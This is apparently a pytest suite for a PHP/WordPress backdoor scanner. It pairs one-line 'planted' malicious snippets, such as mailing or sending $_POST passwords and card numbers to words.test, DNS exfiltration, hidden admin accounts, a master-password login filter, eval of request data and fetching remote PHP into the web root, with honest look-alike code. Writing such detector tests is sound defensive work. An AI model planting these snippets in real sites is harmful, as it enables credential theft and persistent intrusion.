"""Rules for what is stolen, sent and opened: invented planted lines, and honest code beside them."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from unhijack.assess.findings import weigh
from unhijack.parse.plain.clues import Clues
from unhijack.parse.plain.files import plain_marks
from unhijack.parse.plain.tells import is_core, stirs, tell_marks

PLANTED = {
    "php-mails-secrets": ["mail('a@words.example', 'w', $_POST['user'] . $_POST['passwd']);"],
    "php-mails-secrets-away": ["$m .= $_POST['card_number']; mail($to, 'w', $m);"],
    "php-hoards-secrets": [
        "function check($name, $password) { file_put_contents('w.txt', $password, FILE_APPEND); }",
        "$h = fopen('w.log', 'a'); fwrite($h, $_POST['pwd']);",
        "error_log($info->getCcNumber(), 3, '/tmp/w');",
    ],
    "php-sends-secrets": [
        "file_get_contents('http://words.test/?w=' . $_POST['pass']);",
        "curl_init('http://words.test/' . $p->getData('cc_cid'));",
    ],
    "php-sends-encoded-secrets": ["gethostbyname(bin2hex($_POST['pwd']));"],
    "php-sends-whole-request": ["file_get_contents('http://words.test/', false, ctx($_POST));"],
    "php-hoards-requests": [
        "file_put_contents('w.txt', json_encode($_POST), FILE_APPEND);",
        "openssl_public_encrypt(json_encode($_POST), $e, $k); file_put_contents('w', $e, FILE_APPEND);",
    ],
    "php-makes-account": [
        "wp_create_user('words', 'harmless', 'a@words.example');",
        "wp_insert_user(array('user_login' => 'words', 'user_pass' => 'harmless'));",
    ],
    "php-sets-password": ["wp_set_password('harmless', 1);"],
    "php-raises-user": ["$u = get_user_by('login', $_GET['u']); $u->set_role('administrator');"],
    "php-logs-in": ["wp_set_auth_cookie(1);", "wp_set_auth_cookie($_GET['id']);"],
    "php-puts-code-into-files": [
        "$d = file_get_contents($f); file_put_contents($f, '<?php ' . base64_decode($w) . '?>' . $d);"
    ],
    "php-code-from-options": ["eval(get_option('words'));"],
    "php-query-from-request": ["mysql_query(stripslashes($_POST['q']));"],
    "php-invokes-request": ["$c = new ReflectionClass('W'); $c->newInstance($_POST['w']);"],
    "php-mails-as-request-says": ["mail($_POST['to'], $_POST['about'], $_POST['text']);"],
    "php-moves-upload-by-name": [
        "move_uploaded_file($_FILES['f']['tmp_name'], './' . $_FILES['f']['name']);"
    ],
    "php-code-in-text": ["eval('system(\"date\");');"],
    "php-calls-unknown-with-request": ["$f($_POST['w']); $f = 1;", "$list[$n]($_GET['w']);"],
    "php-opens-file-to-all": ["chmod($_GET['f'], 0777);"],
    "php-reads-accounts": ["echo file_get_contents('/etc/passwd');"],
    "php-windows-objects": ["$s = new COM('WScript.Shell');"],
    "php-connects-as-request-says": ["$s = fsockopen($_GET['host'], $_GET['port']);"],
    "php-includes-from-aside": ["include '/tmp/sess_words';", "@include dirname(__FILE__) . '/.words';"],
    "php-includes-decoded": ["include base64_decode('L2hvbWUvd29yZHM=');"],
    "php-includes-what-it-writes": ["file_put_contents('W', $_GET['w']); include 'W';"],
    "php-writes-fetched-program": [
        "function get($u) { return curl_exec(curl_init($u)); }"
        " $h = fopen($_SERVER['DOCUMENT_ROOT'] . '/w.php', 'w'); fwrite($h, get('http://words.test/'));"
    ],
    "php-call-of-decoded": ["function end_of(&$w) { $w .= 't'; } $f = 'asser'; end_of($f); $f($_GET['w']);"],
    "php-hides-users-by-query": [
        "add_action('pre_user_query', function ($q) { $q->query_where .= \" AND user_login != 'w'\"; });"
    ],
    "php-hides-plugin": ["add_filter('all_plugins', function ($p) { unset($p['w/w.php']); return $p; });"],
    "php-opens-login": [
        "add_filter('authenticate', function ($u, $n, $p) {"
        " if ($p === 'harmless-words') { return get_user_by('id', 1); } return $u; });"
    ],
    "php-inserts-account": [
        "$wpdb->query(\"INSERT INTO wp_users (user_login, user_pass) VALUES ('w', MD5('w'))\");"
    ],
    "php-hides-links": [
        "echo '<p style=\"position:absolute;left:-9999px\"><a href=\"http://words.test/\">w</a></p>';"
    ],
}  # fmt: skip

HONEST = [
    "wp_set_current_user(0); wp_set_auth_cookie($user->ID, $remember);",
    "wp_create_user($name, $password, $email);",
    "mail($user->email, 'Your account', \"Your password: $password\");",
    "file_put_contents('config.php', '<?php return ' . var_export($settings, true) . ';');",
    "file_put_contents('words.log', $message, FILE_APPEND);",
    "$c = curl_init('https://pay.example/'); curl_setopt($c, CURLOPT_USERPWD, $config['key']);",
    "if (md5($content) == $known) { return true; }",
    "if ($_POST['password'] == '') { $errors[] = 'password'; }",
    "unlink($temporary);",
    "include __DIR__ . '/.well/words.php';",
    "mysql_query('SELECT * FROM words WHERE id = ' . (int) $_GET['id']);",
    "move_uploaded_file($_FILES['f']['tmp_name'], $folder . '/' . md5($id) . '.png');",
    "add_filter('authenticate', 'words_check', 20, 3);",
    "echo '<script src=\"https://words.test/a.js\"></script>';",
    "chmod($file, 0644);",
    "$user->set_role('administrator');",
]


@pytest.mark.parametrize(("rule", "code"), [(r, c) for r, codes in PLANTED.items() for c in codes])
def test_planted_line_is_found_by_its_rule(rule: str, code: str) -> None:
    marks = plain_marks("words.php", b"<?php\n" + code.encode() + b"\n")
    assert rule in {mark.rule for mark in marks}
    assert weigh(marks) >= 0.5


@pytest.mark.parametrize("code", HONEST)
def test_honest_line_is_not_spoken_of(code: str) -> None:
    assert weigh(plain_marks("words.php", b"<?php\n" + code.encode() + b"\n")) < 0.5


def test_a_method_that_runs_its_own_template_is_not_sure() -> None:
    shell = b"<?php eval(\"?>{$_POST['w']}\");"
    engine = (
        b"<?php class Words { function show($w) { return eval(\"return ({$_COOKIE['w']});\"); } }"
    )
    assert max(mark.confidence for mark in plain_marks("w.php", shell)) >= 0.9
    assert max(mark.confidence for mark in plain_marks("w.php", engine)) < 0.9


def test_a_variable_behind_a_backslash_is_text() -> None:
    marks = plain_marks("w.php", b"<?php class W { function w() { eval(\"echo '\\$_GET';\"); } }")
    assert "php-code-from-request" not in {mark.rule for mark in marks}


def test_code_without_its_opening_tag_is_read_when_a_tag_stands_in_a_text() -> None:
    sent = b"$w = $_POST['w'];\n$t = \"<?php \" . $w;\nfile_put_contents('w.php', $t);\n"
    assert weigh(plain_marks("sent.php", sent)) >= 0.5


def test_a_theme_is_no_core() -> None:
    head = b"<?php\n/**\n * @package wordpress\n */\n"
    theme = head.replace(b" */", b" * @subpackage twenty_ten\n */")
    assert is_core(Clues(head), "wp-includes/words.php")
    assert is_core(Clues(head), "words.php")
    assert not is_core(Clues(head), "wp-content/themes/words/functions.php")
    assert not is_core(Clues(theme), "functions.php")


@given(st.binary(max_size=400))
def test_random_bytes_never_raise(content: bytes) -> None:
    clues = Clues(content)
    stirs(clues)
    for mark in tell_marks(clues, core=True):
        assert 0 <= mark.start <= mark.end <= len(content)
